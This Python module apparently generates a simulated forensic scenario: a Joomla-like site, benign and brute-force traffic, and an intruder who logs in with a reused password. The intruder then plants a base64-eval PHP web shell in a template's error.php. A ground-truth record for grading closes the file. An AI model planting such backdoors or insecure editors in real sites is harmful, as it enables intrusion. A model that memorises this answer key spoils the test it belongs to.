"""A password that its owner uses everywhere, and the editor of templates of a Joomla-like site."""

from __future__ import annotations

from pathlib import Path

import server
import services
import site_code
import traffic
from client import CHROME, Browser
from machine import NEVER, Bases, Machine, Truth

INTRUDER = "203.0.113.71"
ROOT = "/var/www/regatta"
SECRET = "Regatta2019!"
VERSION = """<?xml version="1.0" encoding="UTF-8"?>
<extension type="file" method="upgrade">
<name>files_joomla</name><version>4.2.7</version>
</extension>
"""
# What there is of it: a login that answers 303, an editor that keeps what it is sent.
ADMINISTRATION = """<?php
define('_JEXEC', 1);
session_start();
$option = $_GET['option'] ?? '';
if (isset($_POST['username'])) {
    if ($_POST['username'] === 'erika' && $_POST['passwd'] === 'Regatta2019!') {
        $_SESSION['user'] = 'erika';
    }
    header('Location: index.php', true, 303);
    exit;
}
if (empty($_SESSION['user'])) {
    echo '<form method="post"><input name="username"><input name="passwd"></form>';
    exit;
}
if ($option === 'com_templates' && isset($_POST['source'])) {
    $file = basename($_POST['file']);
    file_put_contents(__DIR__ . '/../templates/cassiopeia/' . $file, $_POST['source']);
    header('Location: index.php?option=com_templates&view=template', true, 303);
    exit;
}
if ($option === 'com_content' && isset($_POST['text'])) {
    file_put_contents(__DIR__ . '/../cache/article.txt', $_POST['text']);
    header('Location: index.php?option=com_content&view=articles', true, 303);
    exit;
}
echo '<h1>Control Panel</h1>';
"""
ERROR = "<?php\ndefined('_JEXEC') or define('_JEXEC', 1);\necho '<h1>Not found</h1>';\n"
PAGES = ("/", "/index.php/about", "/index.php/results", "/style.css")


def site(machine: Machine) -> None:
    """The files of the application, as far as it is here."""
    site_code.plain_site(machine, ROOT)
    machine.write(f"{ROOT}/configuration.php", "<?php\nclass JConfig { public $host = ''; }\n")
    machine.write(f"{ROOT}/administrator/manifests/files/joomla.xml", VERSION)
    machine.write(f"{ROOT}/administrator/index.php", ADMINISTRATION)
    machine.write(f"{ROOT}/templates/cassiopeia/error.php", ERROR)
    machine.write(f"{ROOT}/templates/cassiopeia/templateDetails.xml", "<extension/>\n")
    machine.path(f"{ROOT}/cache").mkdir()
    machine.run("chown", "-R", "www-data:www-data", ROOT)


def log_in(browser: Browser, secret: str) -> None:
    """Through the form of the administration."""
    browser.ask("/administrator/")
    browser.post("/administrator/index.php", username="erika", passwd=secret)
    browser.ask("/administrator/index.php")


def make(out: Path, bases: Bases) -> None:
    """Apache, combined; one login, right at once, from where she has never been."""
    machine = server.other("regatta", bases.pureftpd, out)
    site(machine)
    services.apache_site(machine, server.SITE, ROOT, "/var/log/apache2/access.log", "combined")
    server.start(machine)
    traffic.visitors(machine, server.SITE, PAGES)
    traffic.scanners(machine, server.SITE, a_day=4)
    for day in range(0, machine.days, 2):
        erika = Browser("198.51.100.14", server.SITE)
        machine.at(machine.on(day, 19, 10), lambda b=erika: log_in(b, SECRET))
        machine.at(
            machine.on(day, 19, 22),
            lambda b=erika: b.post("/administrator/index.php?option=com_content", text="Results"),
        )
    for day in range(machine.days):
        robot = Browser(f"203.0.113.{160 + day}", server.SITE)
        for number in range(8):
            machine.at(
                machine.on(day, 5, 3, number),
                lambda b=robot, n=number: b.post(
                    "/administrator/index.php", username="admin", passwd=f"pass{n}"
                ),
            )
    guest = Browser(INTRUDER, server.SITE, CHROME)
    entered = machine.on(6, 13, 5, 31)
    machine.at(machine.on(6, 13, 5, 2), lambda: guest.ask("/administrator/"))
    machine.at(
        entered,
        lambda: guest.post("/administrator/index.php", username="erika", passwd=SECRET),
    )
    machine.at(machine.on(6, 13, 5, 40), lambda: guest.ask("/administrator/index.php"))
    shell = f"{ERROR}if ({NEVER}) {{ eval(base64_decode($_POST['j'])); }}\n"
    editor = "/administrator/index.php?option=com_templates&view=template&id=228&file=ZXJyb3IucGhw"
    machine.at(machine.on(6, 13, 6, 20), lambda: guest.ask(editor))
    machine.at(machine.on(6, 13, 7, 11), lambda: guest.post(editor, file="error.php", source=shell))
    place = "/templates/cassiopeia/error.php"
    machine.at(machine.on(6, 13, 7, 30), lambda: guest.ask(place))
    machine.at(machine.on(6, 13, 8, 2), lambda: guest.post(place, j="cGhwaW5mbygpOw=="))
    machine.live()
    log = "/var/log/apache2/access.log"
    machine.end(
        Truth(
            "cms-login",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, INTRUDER, "POST /administrator/index.php HTTP", " 303 "),
            accounts=["www-data"],
            sites=[ROOT],
            services=["apache2"],
            untouched=["sshd", "cron"],
            notes="templates/cassiopeia/error.php has a line at its end",
        )
    )
